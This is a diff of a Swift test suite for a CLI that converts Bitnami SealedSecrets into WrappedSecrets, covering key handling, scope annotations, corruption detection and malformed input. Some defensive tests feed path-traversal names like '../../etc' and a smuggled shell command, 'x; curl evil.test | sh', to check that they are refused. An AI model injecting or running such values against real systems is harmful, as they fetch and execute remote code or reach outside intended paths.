@@ -1,13 +1,14 @@
 import Cryptography
 import Envelope
 import Foundation
+import JSON
 import TestSupport
 import Testing
 import YAML
 
 @testable import CLI
 
-/// From SealedSecrets to WrappedSecrets.
+/// Imports SealedSecrets as WrappedSecrets.
 @Suite struct SealedSecretImportTests {
     private let keys: FakeKeyManager
     private let vectors: SealedVectors
@@ -32,7 +33,7 @@ import YAML
         ).wrap(try manifests.flatMap(documents))
     }
 
-    /// The one line that says why it is refused.
+    /// Returns the one line of the error.
     private func problem(
         _ manifest: AnyJSON, key: String = "pkcs1", namespace: String? = nil,
         location: SourceLocation = #_sourceLocation
@@ -40,7 +41,8 @@ import YAML
         let message: String
         do {
             let result = try await convert([manifest], key, namespace: namespace)
-            #expect(result.outputs.isEmpty && result.problems.count == 1, sourceLocation: location)
+            #expect(result.outputs.isEmpty, sourceLocation: location)
+            #expect(result.problems.count == 1, sourceLocation: location)
             message = result.problems.first?.description ?? ""
         } catch let error as InputError {
             message = error.description
@@ -57,7 +59,7 @@ import YAML
     }
 
     @Test(arguments: [("strict", "strict"), ("namespace-wide", "namespace"), ("cluster-wide", "cluster")])
-    func valuesAndScopeAreKept(sealed: String, scope: String) async throws {
+    func keepsValuesAndScope(sealed: String, scope: String) async throws {
         let output = try #require(try await convert([vectors.manifest(sealed)]).outputs.first)
         #expect(output.relativePath == "payments/db.yaml")
         let wrapped = try json(output.manifest)
@@ -72,13 +74,13 @@ import YAML
         #expect(try await opened(output)["data"] == expected)
     }
 
-    @Test func theScopeThatIsAskedForWins() async throws {
+    @Test func prefersTheGivenScope() async throws {
         let output = try #require(
             try await convert([vectors.manifest("cluster-wide")], scope: .strict).outputs.first)
         #expect(try json(output.manifest)[["spec", "scope"]] == "strict")
     }
 
-    @Test func theTemplateIsCarried() async throws {
+    @Test func keepsTheTemplate() async throws {
         let output = try #require(try await convert([vectors.manifest("described")]).outputs.first)
         #expect(
             try json(output.manifest)[["spec", "template"]] == [
@@ -88,7 +90,7 @@ import YAML
         #expect(output.notes == [])
     }
 
-    @Test func whatIsNotCarriedIsSaid() async throws {
+    @Test func notesMetadataThatIsLeftOut() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["metadata", "annotations"]] = ["example.com/note": "-1"]
         manifest[["spec", "template", "metadata", "annotations"]] = [
@@ -100,8 +102,8 @@ import YAML
         #expect(notes[1].contains("spec.creationPolicy: Merge"))
     }
 
-    /// What an apply tool is told of the SealedSecret holds for the WrappedSecret.
-    @Test func whatApplyToolsAreToldIsKept() async throws {
+    /// Instructions to apply tools on the SealedSecret move to the WrappedSecret.
+    @Test func keepsInstructionsForApplyTools() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["metadata", "annotations"]] = ["argocd.argoproj.io/sync-wave": "-1"]
         manifest[["spec", "template", "metadata"]] = [
@@ -122,14 +124,15 @@ import YAML
         #expect(output.notes.contains { $0.contains("label app.kubernetes.io/instance is left out") })
     }
 
-    @Test func anyOfTheKeysMayOpen() async throws {
+    @Test func opensWithAnyOfTheKeys() async throws {
         let both = try vectors.sealingKeys("second", "pkcs1")
         let documents = try [vectors.manifest("strict"), vectors.manifest("second")].flatMap(documents)
         let result = await SealedSecretImport(
             sealingKeys: both, keys: keys.keyRing, scope: nil, namespace: nil
         ).wrap(
             documents)
-        #expect(result.outputs.count == 2 && result.problems == [])
+        #expect(result.outputs.count == 2)
+        #expect(result.problems == [])
         let message = try await problem(vectors.manifest("second"))
         for part in [
             "the key does not open spec.encryptedData.", "SealedSecret payments/db",
@@ -138,7 +141,7 @@ import YAML
         ] { #expect(message.contains(part), "\(message)") }
     }
 
-    @Test func theBindingIsKept() async throws {
+    @Test func refusesAValueSealedForAnotherPlace() async throws {
         var moved = try vectors.manifest("strict")
         moved[["metadata", "name"]] = "other"
         #expect(try await problem(moved).contains("SealedSecret payments/other"))
@@ -152,8 +155,8 @@ import YAML
         #expect(try await convert([moved]).outputs.map(\.relativePath) == ["elsewhere/db.yaml"])
     }
 
-    /// The wider annotation wins, and nothing but "true" counts.
-    @Test func theScopeIsThatOfItsOwnAnnotations() async throws {
+    /// The wider annotation wins, and only the value "true" counts.
+    @Test func readsTheScopeFromItsOwnAnnotations() async throws {
         let annotations = ["metadata", "annotations"]
         var manifest = try vectors.manifest("cluster-wide")
         manifest[annotations]?["sealedsecrets.bitnami.com/namespace-wide"] = "true"
@@ -166,16 +169,16 @@ import YAML
         #expect(try await convert([manifest]).outputs.count == 1)
     }
 
-    @Test func aLostAnnotationIsFound() async throws {
+    @Test func suggestsTheAnnotationOfTheScopeThatOpens() async throws {
         var manifest = try vectors.manifest("cluster-wide")
         manifest[["metadata", "annotations"]] = nil
         #expect(
             try await problem(manifest).contains(
-                "opens as cluster-wide, and the SealedSecret says strict; annotate the SealedSecret "
+                "opens as cluster-wide, but the SealedSecret is strict; annotate the SealedSecret "
                     + "sealedsecrets.bitnami.com/cluster-wide: \"true\""))
     }
 
-    @Test func theNamespaceCanBeGiven() async throws {
+    @Test func takesTheNamespaceFromTheOption() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["metadata", "namespace"]] = nil
         #expect(
@@ -187,7 +190,7 @@ import YAML
             ])
         #expect(
             try await problem(vectors.manifest("strict"), namespace: "other").contains(
-                "metadata.namespace is payments, --namespace says other"))
+                "metadata.namespace is payments, but --namespace is other"))
         manifest = try vectors.manifest("cluster-wide")
         manifest[["metadata", "namespace"]] = nil
         #expect(try await convert([manifest]).outputs.map(\.relativePath) == ["db.yaml"])
@@ -196,7 +199,7 @@ import YAML
                 == true)
     }
 
-    @Test func damageIsNamed() async throws {
+    @Test func reportsCorruptedValues() async throws {
         let manifest = try vectors.manifest("strict")
         let whole = try manifest.sealed("password")
         func flipped(_ place: Int) -> [UInt8] {
@@ -205,51 +208,55 @@ import YAML
             return bytes
         }
         let field = "spec.encryptedData.password of SealedSecret payments/db"
-        // The value, and its tag.
+        // The ciphertext and its tag.
         for place in [2 + 256, whole.count - 1] {
             #expect(
                 try await problem(manifest.sealing("password", as: flipped(place))).contains(
                     "\(field) was changed"))
         }
-        // The session key.
+        // The wrapped session key.
         #expect(try await problem(manifest.sealing("password", as: flipped(100))).contains("does not open"))
         for count in [0, 1, 2, 257, 258, 258 + 15] {
             let cut = Array(whole.prefix(count))
             #expect(
-                try await problem(manifest.sealing("password", as: cut)).contains("\(field) is cut short"),
+                try await problem(manifest.sealing("password", as: cut)).contains("\(field) is truncated"),
                 "\(count)")
         }
-        var odd = manifest
-        odd[["spec", "encryptedData", "password"]] = "not base64!"
-        #expect(try await problem(odd).contains("spec.encryptedData.password is not valid base64"))
-        odd[["spec", "encryptedData", "password"]] = 7
+        var malformed = manifest
+        malformed[["spec", "encryptedData", "password"]] = "not base64!"
+        #expect(try await problem(malformed).contains("spec.encryptedData.password is not valid base64"))
+        malformed[["spec", "encryptedData", "password"]] = 7
         #expect(
-            try await problem(odd).contains("spec.encryptedData.password is a number; a string is expected"))
+            try await problem(malformed).contains(
+                "spec.encryptedData.password is a number; a string is expected"))
     }
 
-    /// The first that is closed stands for all.
-    @Test func manyEntriesAreNotAllListed() async throws {
+    /// The error names the first entries and counts the others.
+    @Test func listsTheFirstOfManyEntries() async throws {
         var manifest = try vectors.manifest("second")
         let value = try #require(manifest[["spec", "encryptedData", "password"]])
         for number in 0..<20 { manifest[["spec", "encryptedData", "e\(number)"]] = value }
         #expect(try await problem(manifest).contains(" and 20 more of SealedSecret"))
     }
 
-    @Test func templatedValuesAreRefused() async throws {
+    @Test func refusesTemplatedValues() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["spec", "template", "data"]] = ["url": "postgres://{{ .password }}"]
         let message = try await problem(manifest)
-        #expect(message.contains("Go templates") && message.contains("secrets-bridge import -n payments db"))
+        #expect(message.contains("Go templates"))
+        #expect(message.contains("secrets-bridge import -n payments db"))
         manifest[["spec", "template", "data"]] = .null
         #expect(try await convert([manifest]).outputs.count == 1)
     }
 
-    @Test func aSecretUnderOneSealIsOpened() async throws {
+    @Test func opensAWholeSealedManifest() async throws {
         let output = try #require(try await convert([vectors.manifest("whole")]).outputs.first)
         #expect(try json(output.manifest)[["spec", "template", "metadata", "labels"]] == ["team": "a"])
         #expect(
             try await opened(output)[["data", "password"]] == .string(Base64.encode(canary.utf8)))
-        #expect(try await problem(vectors.manifest("not-a-secret")).contains("opens, but it is no Secret"))
+        #expect(
+            try await problem(vectors.manifest("not-a-secret")).contains(
+                "opens, but does not contain a Secret"))
         var both = try vectors.manifest("whole")
         both[["spec", "encryptedData"]] = try vectors.manifest("strict")[["spec", "encryptedData"]]
         #expect(try await problem(both).contains("both spec.encryptedData and the older spec.data"))
@@ -276,15 +283,15 @@ import YAML
                 "metadata.annotations.a is a boolean; a string is expected"
             ),
         ] as [([String], AnyJSON, String)])
-    func whatIsMalformedIsRefused(path: [String], value: AnyJSON, part: String) async throws {
+    func refusesAMalformedSealedSecret(path: [String], value: AnyJSON, part: String) async throws {
         var manifest = try vectors.manifest("strict")
         manifest[path] = value
         let message = try await problem(manifest)
         #expect(message.contains(part), "\(message)")
     }
 
-    /// As where `encryptedData:` is indented too far to the left.
-    @Test func valuesInTheWrongPlaceAreNotNoValues() async throws {
+    /// `encryptedData:` may be indented too little.
+    @Test func refusesMisplacedValues() async throws {
         var manifest = try vectors.manifest("strict")
         manifest["encryptedData"] = manifest[["spec", "encryptedData"]]
         manifest[["spec", "encryptedData"]] = nil
@@ -295,27 +302,28 @@ import YAML
         #expect(try await problem(manifest).contains("spec has neither"))
     }
 
-    @Test func noValuesAreTakenWhereThatIsSaid() async throws {
+    @Test func acceptsExplicitlyEmptyValues() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["spec", "encryptedData"]] = [:]
         manifest["status"] = ["observedGeneration": 1]
         let output = try #require(try await convert([manifest]).outputs.first)
-        #expect(output.notes.count == 1 && output.notes[0].contains("spec.encryptedData of db is empty"))
+        #expect(output.notes.count == 1)
+        #expect(output.notes[0].contains("spec.encryptedData of db is empty"))
         var whole = try vectors.manifest("whole")
         whole[["spec", "encryptedData"]] = [:]
         #expect(try await convert([whole]).outputs.map(\.notes) == [[]])
     }
 
-    /// A cluster-wide value opens under any name, so that a name could be a path.
+    /// A cluster-wide value opens with any name, so a name could be a path.
     @Test(arguments: [("namespace", "../../etc"), ("name", "../x"), ("name", "a/b")])
-    func aNameIsNoPath(field: String, value: String) async throws {
+    func refusesANameThatIsAPath(field: String, value: String) async throws {
         var manifest = try vectors.manifest("cluster-wide")
         manifest[["metadata", field]] = .string(value)
         #expect(try await problem(manifest).contains("metadata.\(field)"))
     }
 
-    /// What a name would do to the command that is shown.
-    @Test func aNameIsNoCommand() async throws {
+    /// The error shows a command that contains the name.
+    @Test func refusesANameThatIsACommand() async throws {
         var manifest = try vectors.manifest("cluster-wide")
         manifest[["metadata", "name"]] = "x; curl evil.test | sh"
         manifest[["spec", "template", "data"]] = ["a": "b"]
@@ -323,7 +331,7 @@ import YAML
         #expect(!message.contains("secrets-bridge import -n"), "\(message)")
     }
 
-    @Test func whatATemplateCannotHaveIsNoted() async throws {
+    @Test func notesUnsupportedTemplateMetadata() async throws {
         var manifest = try vectors.manifest("strict")
         manifest[["spec", "template", "metadata", "finalizers"]] = ["example.com/keep"]
         manifest[["metadata", "finalizers"]] = ["example.com/keep"]
@@ -334,35 +342,37 @@ import YAML
         #expect(notes.contains { $0.contains("spec.template.metadata.finalizers is left out") }, "\(notes)")
     }
 
-    /// One that cannot be opened keeps the others from being wrapped, and each one is told of.
-    @Test func allOrNone() async throws {
+    /// One SealedSecret that cannot be opened keeps the others from being wrapped, and each is reported.
+    @Test func importsNothingIfOneCannotBeOpened() async throws {
         var moved = try vectors.manifest("strict")
         moved[["metadata", "name"]] = "other"
         let result = try await convert([
             vectors.manifest("strict"), moved, vectors.manifest("second"), vectors.manifest("described"),
         ])
-        #expect(result.outputs.isEmpty && result.problems.count == 2)
+        #expect(result.outputs.isEmpty)
+        #expect(result.problems.count == 2)
     }
 
-    /// What a WrappedSecret cannot be made of is found before the KMS is asked, here one that would fail.
-    @Test func eachThatCannotBeWrappedIsToldOf() async throws {
+    /// Invalid Secrets are found before the first request to the KMS, which would fail here.
+    @Test func reportsEverySecretThatCannotBeWrapped() async throws {
         keys.fail(.unavailable)
-        var odd = try vectors.manifest("strict")
-        odd[["spec", "template", "metadata", "labels"]] = ["-odd-": "x"]
+        var mislabelled = try vectors.manifest("strict")
+        mislabelled[["spec", "template", "metadata", "labels"]] = ["-odd-": "x"]
         var lacking = try vectors.manifest("strict")
         lacking[["spec", "template", "type"]] = "kubernetes.io/tls"
         var named = try vectors.manifest("cluster-wide")
         named[["metadata", "name"]] = "A"
-        let result = try await convert([vectors.manifest("strict"), odd, lacking, named])
+        let result = try await convert([vectors.manifest("strict"), mislabelled, lacking, named])
         let messages = result.problems.map(\.description)
-        #expect(result.outputs.isEmpty && messages.count == 3, "\(messages)")
+        #expect(result.outputs.isEmpty, "\(messages)")
+        #expect(messages.count == 3, "\(messages)")
         for (message, part) in zip(messages, ["-odd-", "needs the entry tls.crt", "metadata.name"]) {
             #expect(message.contains(part), "\(message)")
             expectSafeMessage(message)
         }
     }
 
-    @Test func whatApplyToolsAreToldOfAWholeSecretIsKept() async throws {
+    @Test func keepsInstructionsForApplyToolsOfAWholeManifest() async throws {
         var manifest = try vectors.manifest("whole")
         manifest[["metadata", "annotations"]] = ["helm.sh/resource-policy": "keep"]
         let output = try #require(try await convert([manifest]).outputs.first)
@@ -371,18 +381,19 @@ import YAML
         #expect(output.notes == [])
     }
 
-    @Test func aKeyManagerThatFailsIsSaidOnce() async throws {
+    @Test func reportsAFailingKMSOnce() async throws {
         keys.fail(.unavailable)
         let result = try await convert([vectors.manifest("strict"), vectors.manifest("described")])
-        #expect(result.outputs.isEmpty && result.problems.count == 1)
+        #expect(result.outputs.isEmpty)
+        #expect(result.problems.count == 1)
         expectSafeMessage(result.problems.first?.description)
     }
 
-    @Test func twoOfOneNameWouldBeOneFile() async throws {
+    @Test func reportsTwoSecretsOfOnePath() async throws {
         let result = try await convert([vectors.manifest("strict"), vectors.manifest("described")])
         #expect(
             ImportedSecret.pathCollision(in: result.outputs)?.description.contains(
-                "payments/db.yaml is made of")
+                "payments/db.yaml is also created from")
                 == true)
         #expect(ImportedSecret.pathCollision(in: Array(result.outputs.prefix(1))) == nil)
     }
